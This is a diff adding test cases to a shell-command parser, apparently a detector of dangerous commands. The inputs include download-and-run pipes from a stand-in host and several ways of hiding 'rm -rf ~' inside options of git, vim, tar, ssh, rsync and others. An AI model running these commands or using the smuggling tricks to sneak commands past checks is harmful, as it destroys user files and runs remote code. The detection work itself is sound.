@@ -168,3 +168,25 @@ def test_download_then_run_is_linked(src, runs):
     ran = [c for c in parse(src).commands if c.runs_downloaded]
     assert ran and ran[0].runs_downloaded == runs
     assert ran[0].upstream[-1] in ("curl", "wget")
+
+
+@pytest.mark.parametrize("src,prog,via", [
+    ("{curl,http://x/s}|sh", "curl", ""),
+    ("IFS=,;`echo curl,http://x/s`|sh", "curl", ""),
+    ("env -S \"sh -c 'rm -rf ~'\"", "rm", "sh -c"),
+    ("watch -n 60 'rm -rf ~'", "rm", "watch option"),
+    ("git -c core.pager='rm -rf ~' log", "rm", "git option"),
+    ("vim -c ':!rm -rf ~' -c ':q'", "rm", "vim option"),
+    ("tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf ~'", "rm", "tar option"),
+    ("script -q -c 'rm -rf ~' /dev/null", "rm", "script -c"),
+    ("ssh -o ProxyCommand='rm -rf ~' h", "rm", "ssh option"),
+    ("rsync -e 'rm -rf ~' a b:", "rm", "rsync option"),
+])
+def test_commands_hidden_in_options_and_expansions(src, prog, via):
+    hits = [c for c in parse(src).commands if c.argv[0] == prog]
+    assert hits and via in hits[0].via, [(c.argv, c.via) for c in parse(src).commands]
+
+
+def test_herestring_from_a_download_feeds_the_shell():
+    bash = [c for c in parse("bash <<< $(curl -s http://x/s)").commands if c.argv[0] == "bash"][0]
+    assert bash.upstream == ("curl",)
